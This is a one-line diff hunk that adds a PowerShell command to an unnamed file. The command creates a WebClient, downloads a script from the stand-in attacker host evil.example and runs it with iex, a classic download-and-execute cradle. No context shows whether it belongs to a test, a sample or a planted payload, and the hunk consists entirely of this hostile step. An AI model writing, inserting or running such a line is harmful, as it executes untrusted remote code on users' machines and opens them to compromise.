@@ -1,0 +1,1 @@
+$wc = New-Object System.Net.WebClient; $s = $wc.DownloadString("https://evil.example/a"); iex $s
